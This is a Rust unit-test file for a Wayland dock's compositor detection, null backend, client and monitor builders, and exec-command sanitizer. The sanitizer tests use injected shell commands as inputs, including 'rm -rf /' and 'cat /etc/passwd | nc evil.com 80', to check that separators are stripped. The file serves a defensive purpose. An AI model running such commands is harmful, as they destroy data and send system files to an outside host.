//! Detection of the compositor, the null backend and the neutral types.

use nwg_common::compositor::hyprland::DispatchSyntax;
use nwg_common::compositor::null::NullCompositor;
use nwg_common::compositor::{
    create, detect, init_or_exit, init_or_null, sanitize_exec_command, Backend, CompositorKind,
    WmClient, WmMonitor, WmOverride, WmWorkspace,
};
use nwg_common::error::DockError;
use nwg_common::launch::LaunchMode;
use nwg_common::number::Double;

#[test]
fn detect_sway_override() {
    let mut mode = LaunchMode::default();
    assert_eq!(
        detect(Some(WmOverride::Sway), false, false, &mut mode).unwrap(),
        CompositorKind::Sway
    );
    assert!(!mode.uwsm);
}

#[test]
fn detect_hyprland_override() {
    let mut mode = LaunchMode::default();
    assert_eq!(
        detect(Some(WmOverride::Hyprland), false, true, &mut mode).unwrap(),
        CompositorKind::Hyprland
    );
}

#[test]
fn detect_uwsm_falls_through_to_env() {
    // uwsm is a launch wrapper: detection goes by the environment, and uwsm
    // itself is never rejected as unsupported.
    for (hyprland, sway) in [(false, false), (true, false), (false, true), (true, true)] {
        let mut mode = LaunchMode::default();
        let result = detect(Some(WmOverride::Uwsm), hyprland, sway, &mut mode);
        assert!(
            !matches!(result, Err(DockError::UnsupportedCompositor(_))),
            "uwsm should not be rejected as unsupported, got {:?}",
            result
        );
        assert!(mode.uwsm);
    }
}

#[test]
fn detect_from_environment() {
    let mut mode = LaunchMode::default();
    assert_eq!(detect(None, true, true, &mut mode).unwrap(), CompositorKind::Hyprland);
    assert_eq!(detect(None, false, true, &mut mode).unwrap(), CompositorKind::Sway);
    assert!(matches!(
        detect(None, false, false, &mut mode),
        Err(DockError::NoCompositorDetected)
    ));
    assert!(!mode.uwsm);
}

#[test]
fn create_needs_the_environment() {
    match create(CompositorKind::Hyprland, Some("sig"), None) {
        Ok(Backend::Hyprland(b)) => assert_eq!(b.dispatch_syntax, DispatchSyntax::Unknown),
        other => panic!("unexpected {:?}", other),
    }
    match create(CompositorKind::Hyprland, None, Some("/s")) {
        Err(DockError::EnvNotSet(name)) => assert_eq!(name, "HYPRLAND_INSTANCE_SIGNATURE"),
        other => panic!("unexpected {:?}", other),
    }
    match create(CompositorKind::Sway, None, Some("/s")) {
        Ok(Backend::Sway(b)) => assert_eq!(b.socket_path, "/s"),
        other => panic!("unexpected {:?}", other),
    }
    match create(CompositorKind::Sway, Some("sig"), None) {
        Err(DockError::EnvNotSet(name)) => assert_eq!(name, "SWAYSOCK"),
        other => panic!("unexpected {:?}", other),
    }
}

#[test]
fn init_falls_back_or_fails() {
    let mut mode = LaunchMode::default();
    assert!(matches!(init_or_null(None, None, None, &mut mode), Backend::Null(_)));
    assert!(matches!(
        init_or_null(Some(WmOverride::Sway), None, None, &mut mode),
        Backend::Null(_)
    ));
    assert!(matches!(
        init_or_null(None, Some("sig"), Some("/s"), &mut mode),
        Backend::Hyprland(_)
    ));
    assert!(matches!(
        init_or_exit(None, None, None, &mut mode),
        Err(DockError::NoCompositorDetected)
    ));
    assert!(matches!(
        init_or_exit(Some(WmOverride::Sway), None, None, &mut mode),
        Err(DockError::EnvNotSet(_))
    ));
    assert!(matches!(
        init_or_exit(Some(WmOverride::Uwsm), None, Some("/s"), &mut mode),
        Ok(Backend::Sway(_))
    ));
    assert!(mode.uwsm);
}

#[test]
fn sanitize_strips_semicolons() {
    assert_eq!(
        sanitize_exec_command("firefox; rm -rf /"),
        "firefox rm -rf /"
    );
}

#[test]
fn sanitize_strips_backticks() {
    assert_eq!(sanitize_exec_command("echo `whoami`"), "echo whoami");
}

#[test]
fn sanitize_strips_dollar() {
    assert_eq!(sanitize_exec_command("echo $HOME"), "echo HOME");
}

#[test]
fn sanitize_strips_pipes() {
    assert_eq!(
        sanitize_exec_command("cat /etc/passwd | nc evil.com 80"),
        "cat /etc/passwd  nc evil.com 80"
    );
}

#[test]
fn sanitize_strips_ampersand() {
    assert_eq!(sanitize_exec_command("cmd & bg"), "cmd  bg");
}

#[test]
fn sanitize_strips_newlines() {
    assert_eq!(sanitize_exec_command("cmd\nmalicious"), "cmdmalicious");
}

#[test]
fn sanitize_preserves_normal_commands() {
    let cmd = "firefox --new-window https://example.com";
    assert_eq!(sanitize_exec_command(cmd), cmd);
}

#[test]
fn sanitize_preserves_paths_with_spaces() {
    let cmd = "/usr/bin/my app --arg=value";
    assert_eq!(sanitize_exec_command(cmd), cmd);
}

/// Asserts the result is specifically Err(NoCompositorDetected).
fn assert_no_compositor<T: std::fmt::Debug>(result: Result<T, DockError>) {
    assert!(
        matches!(result, Err(DockError::NoCompositorDetected)),
        "expected NoCompositorDetected, got {:?}",
        result
    );
}

#[test]
fn list_clients_returns_no_compositor_error() {
    assert_no_compositor(NullCompositor.list_clients());
}

#[test]
fn list_monitors_returns_no_compositor_error() {
    assert_no_compositor(NullCompositor.list_monitors());
}

#[test]
fn get_active_window_returns_no_compositor_error() {
    assert_no_compositor(NullCompositor.get_active_window());
}

#[test]
fn cursor_position_unsupported() {
    assert!(!NullCompositor.supports_cursor_position());
    assert_eq!(NullCompositor.get_cursor_position(), None);
}

const TEST_WORKSPACE: i32 = 1;

#[test]
fn window_operations_return_no_compositor_error() {
    let c = NullCompositor;
    assert_no_compositor(c.focus_window("x"));
    assert_no_compositor(c.close_window("x"));
    assert_no_compositor(c.toggle_floating("x"));
    assert_no_compositor(c.toggle_fullscreen("x"));
    assert_no_compositor(c.move_to_workspace("x", TEST_WORKSPACE));
    assert_no_compositor(c.toggle_special_workspace("x"));
    assert_no_compositor(c.raise_active());
}

#[test]
fn focus_workspace_returns_no_compositor_error() {
    assert_no_compositor(NullCompositor.focus_workspace(TEST_WORKSPACE));
}

#[test]
fn event_stream_returns_no_compositor_error() {
    assert!(matches!(
        NullCompositor.event_stream(),
        Err(DockError::NoCompositorDetected)
    ));
}

#[test]
fn exec_launches_trivial_command() {
    assert!(NullCompositor.exec("/bin/true").is_ok());
    let plan = NullCompositor.exec("/bin/true").unwrap().unwrap();
    assert_eq!(plan.program, "/bin/true");
    assert!(plan.args.is_empty());
}

#[test]
fn exec_empty_command_returns_no_compositor_error() {
    assert_no_compositor(NullCompositor.exec(""));
    assert_no_compositor(NullCompositor.exec("   "));
}

#[test]
fn client_setters() {
    let c = WmClient::default()
        .with_id("0x1")
        .with_class("code".to_string())
        .with_initial_class("code-oss")
        .with_title("Title")
        .with_pid(12)
        .with_workspace(WmWorkspace::default().with_id(3).with_name("chat"))
        .with_floating(true)
        .with_monitor_id(2)
        .with_fullscreen(true);
    assert_eq!(c.id, "0x1");
    assert_eq!(c.class, "code");
    assert_eq!(c.initial_class, "code-oss");
    assert_eq!(c.title, "Title");
    assert_eq!(c.pid, 12);
    assert_eq!((c.workspace.id, c.workspace.name.as_str()), (3, "chat"));
    assert!(c.floating && c.fullscreen);
    assert_eq!(c.monitor_id, 2);
    let copy = c.clone();
    assert_eq!(copy.title, "Title");
    let empty = WmClient::default();
    assert_eq!(empty.id, "");
    assert_eq!(empty.pid, 0);
    assert!(!empty.floating);
}

#[test]
fn monitor_setters() {
    let m = WmMonitor::default()
        .with_id(1)
        .with_name("DP-1")
        .with_width(1920)
        .with_height(1080)
        .with_x(-10)
        .with_y(20)
        .with_scale(Double { bits: 1.25f64.to_bits() })
        .with_focused(true)
        .with_active_workspace(WmWorkspace::default().with_name("2"));
    assert_eq!((m.id, m.width, m.height, m.x, m.y), (1, 1920, 1080, -10, 20));
    assert_eq!(m.name, "DP-1");
    assert_eq!(f64::from_bits(m.scale.bits), 1.25);
    assert!(m.focused);
    assert_eq!(m.clone().active_workspace.name, "2");
    assert_eq!(f64::from_bits(WmMonitor::default().scale.bits), 0.0);
}

#[test]
fn sanitizing_twice_is_sanitizing_once() {
    let once = sanitize_exec_command("a;b`c$d|e&f\ng\rh");
    assert_eq!(once, "abcdefgh");
    assert_eq!(sanitize_exec_command(&once), once);
}
